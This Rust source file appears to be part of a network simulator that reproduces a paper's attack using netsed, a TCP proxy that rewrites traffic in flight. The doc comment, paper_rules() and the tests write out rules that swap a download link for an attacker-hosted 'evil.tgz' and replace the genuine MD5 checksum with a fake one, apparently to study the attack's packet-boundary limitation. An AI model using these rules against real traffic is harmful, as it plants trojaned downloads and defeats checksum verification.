//! netsed — the TCP stream editor (Zalewski, ref \[16\] in the paper).
//!
//! A transparent proxy that forwards a TCP session while applying
//! search-and-replace rules to the bytes. The paper's invocation:
//!
//! ```text
//! netsed tcp 10101 Target-IP 80 \
//!     s/href=file.tgz/href=http:%2f%2fAttacker-IP%2fevil.tgz \
//!     s/RealMD5SUM/FakeMD5SUM
//! ```
//!
//! Faithfully to the original tool, rules are applied **per received
//! chunk**: a match that straddles two TCP segments is *not* rewritten —
//! the limitation §4.2 of the paper concedes ("netsed will not match
//! strings that cross packet boundaries") and which experiment E2
//! quantifies by sweeping the victim's MSS.

use bytes::Bytes;
use rogue_netstack::{Host, Ipv4Addr, SocketHandle};
use rogue_sim::SimTime;

use crate::apps::{App, AppEvent};
use crate::http::find_subslice;

/// One `s/search/replace` rule over raw bytes.
#[derive(Clone, Debug, PartialEq)]
pub struct NetsedRule {
    /// Bytes to find.
    pub search: Vec<u8>,
    /// Bytes to substitute.
    pub replace: Vec<u8>,
}

impl NetsedRule {
    /// Build a rule from string literals.
    pub fn new(search: &str, replace: &str) -> NetsedRule {
        NetsedRule {
            search: search.as_bytes().to_vec(),
            replace: replace.as_bytes().to_vec(),
        }
    }
}

/// Apply all rules to one chunk, replacing every occurrence. Returns the
/// rewritten chunk and the number of replacements made. Copy-on-write:
/// a chunk no rule matches is returned as-is, still sharing its
/// allocation — the proxy only pays for bytes it actually edits.
pub fn apply_rules(rules: &[NetsedRule], chunk: Bytes) -> (Bytes, u64) {
    let mut data: Option<Vec<u8>> = None;
    let mut hits = 0;
    for rule in rules {
        if rule.search.is_empty() {
            continue;
        }
        let mut from = 0;
        loop {
            let hay: &[u8] = data.as_deref().unwrap_or(&chunk);
            let Some(pos) = find_subslice(&hay[from..], &rule.search) else {
                break;
            };
            let at = from + pos;
            let buf = data.get_or_insert_with(|| chunk.to_vec());
            buf.splice(at..at + rule.search.len(), rule.replace.iter().copied());
            from = at + rule.replace.len();
            hits += 1;
        }
    }
    match data {
        Some(edited) => (edited.into(), hits),
        None => (chunk, hits),
    }
}

struct Session {
    client: SocketHandle,
    upstream: SocketHandle,
}

/// The proxy app: listens on `listen_port`, connects onward to
/// `target`, rewrites both directions.
pub struct Netsed {
    listen_port: u16,
    target: (Ipv4Addr, u16),
    rules: Vec<NetsedRule>,
    listener: Option<SocketHandle>,
    sessions: Vec<Session>,
    /// Total replacements applied.
    pub replacements: u64,
    /// Chunks examined.
    pub chunks: u64,
    /// Sessions accepted.
    pub sessions_total: u64,
}

impl Netsed {
    /// `netsed tcp <listen_port> <target ip> <target port> rules…`
    pub fn new(listen_port: u16, target: (Ipv4Addr, u16), rules: Vec<NetsedRule>) -> Netsed {
        Netsed {
            listen_port,
            target,
            rules,
            listener: None,
            sessions: Vec::new(),
            replacements: 0,
            chunks: 0,
            sessions_total: 0,
        }
    }

    /// The paper's two rules, built from the genuine page strings.
    pub fn paper_rules(attacker_ip: Ipv4Addr, real_md5: &str, fake_md5: &str) -> Vec<NetsedRule> {
        vec![
            NetsedRule::new(
                "href=file.tgz",
                // %2f is ASCII hex for '/' — decoded by the client.
                &format!("href=http://{attacker_ip}%2fevil.tgz"),
            ),
            NetsedRule::new(real_md5, fake_md5),
        ]
    }

    fn shuttle(&mut self, now: SimTime, host: &mut Host, from: SocketHandle, to: SocketHandle) {
        loop {
            let chunk = host.tcp_recv(from, 64 * 1024);
            if chunk.is_empty() {
                break;
            }
            self.chunks += 1;
            let (rewritten, hits) = apply_rules(&self.rules, chunk.into());
            self.replacements += hits;
            host.tcp_send(now, to, &rewritten);
        }
    }
}

impl App for Netsed {
    fn as_any(&self) -> &dyn std::any::Any {
        self
    }

    fn poll(&mut self, now: SimTime, host: &mut Host, _out: &mut Vec<AppEvent>) {
        let listener = *self
            .listener
            .get_or_insert_with(|| host.tcp_listen(self.listen_port));
        while let Some(client) = host.tcp_accept(listener) {
            let upstream = host.tcp_connect(now, self.target.0, self.target.1);
            self.sessions.push(Session { client, upstream });
            self.sessions_total += 1;
        }

        let pairs: Vec<(SocketHandle, SocketHandle)> = self
            .sessions
            .iter()
            .map(|s| (s.client, s.upstream))
            .collect();
        for (client, upstream) in pairs {
            self.shuttle(now, host, client, upstream);
            self.shuttle(now, host, upstream, client);
        }

        // Propagate EOFs and reap dead sessions.
        let mut dead = Vec::new();
        for (i, s) in self.sessions.iter().enumerate() {
            let client_eof = host.tcp_eof(s.client);
            let upstream_eof = host.tcp_eof(s.upstream);
            if client_eof {
                host.tcp_close(now, s.upstream);
            }
            if upstream_eof {
                host.tcp_close(now, s.client);
            }
            if (host.tcp_is_closed(s.client) || client_eof)
                && (host.tcp_is_closed(s.upstream) || upstream_eof)
                && host.tcp_is_closed(s.client)
                && host.tcp_is_closed(s.upstream)
            {
                dead.push(i);
            }
        }
        for i in dead.into_iter().rev() {
            let s = self.sessions.remove(i);
            host.tcp_release(s.client);
            host.tcp_release(s.upstream);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn rewrite_within_one_chunk() {
        let rules = vec![NetsedRule::new(
            "href=file.tgz",
            "href=http://6.6.6.6/evil.tgz",
        )];
        let page = Bytes::from_static(b"<a href=file.tgz>get it</a>");
        let (out, hits) = apply_rules(&rules, page);
        assert_eq!(hits, 1);
        assert_eq!(
            String::from_utf8_lossy(&out),
            "<a href=http://6.6.6.6/evil.tgz>get it</a>"
        );
    }

    #[test]
    fn multiple_occurrences_all_replaced() {
        let rules = vec![NetsedRule::new("aa", "b")];
        let (out, hits) = apply_rules(&rules, Bytes::from_static(b"aaaa-aa"));
        assert_eq!(hits, 3);
        assert_eq!(&out[..], b"bb-b");
    }

    #[test]
    fn no_match_passthrough() {
        let rules = vec![NetsedRule::new("zzz", "yyy")];
        let chunk = Bytes::from_static(b"hello");
        let before = chunk.as_ptr();
        let (out, hits) = apply_rules(&rules, chunk);
        assert_eq!(hits, 0);
        assert_eq!(&out[..], b"hello");
        assert_eq!(
            out.as_ptr(),
            before,
            "passthrough must share the allocation"
        );
    }

    #[test]
    fn replacement_can_grow_and_shrink() {
        let rules = vec![
            NetsedRule::new("short", "a much longer replacement"),
            NetsedRule::new("delete-me", ""),
        ];
        let (out, hits) = apply_rules(&rules, Bytes::from_static(b"short delete-me end"));
        assert_eq!(hits, 2);
        assert_eq!(&out[..], b"a much longer replacement  end");
    }

    #[test]
    fn boundary_straddle_is_missed() {
        // The paper's admitted limitation, in miniature: the match does
        // not fire when split across two chunks.
        let rules = vec![NetsedRule::new("RealMD5SUM", "FakeMD5SUM")];
        let whole = Bytes::from_static(b"MD5SUM: RealMD5SUM done");
        let (_, hits_whole) = apply_rules(&rules, whole.clone());
        assert_eq!(hits_whole, 1);

        // Split inside the match: both halves are views of `whole`.
        let (_, h1) = apply_rules(&rules, whole.slice(..12));
        let (_, h2) = apply_rules(&rules, whole.slice(12..));
        assert_eq!(h1 + h2, 0, "straddling match must be missed");
    }

    #[test]
    fn empty_search_ignored() {
        let rules = vec![NetsedRule {
            search: vec![],
            replace: b"x".to_vec(),
        }];
        let (out, hits) = apply_rules(&rules, Bytes::from_static(b"data"));
        assert_eq!(hits, 0);
        assert_eq!(&out[..], b"data");
    }

    #[test]
    fn paper_rules_shape() {
        let rules = Netsed::paper_rules(
            Ipv4Addr::new(192, 168, 0, 1),
            "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
            "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb",
        );
        assert_eq!(rules.len(), 2);
        assert_eq!(rules[0].search, b"href=file.tgz");
        assert!(String::from_utf8_lossy(&rules[0].replace).contains("%2f"));
    }
}
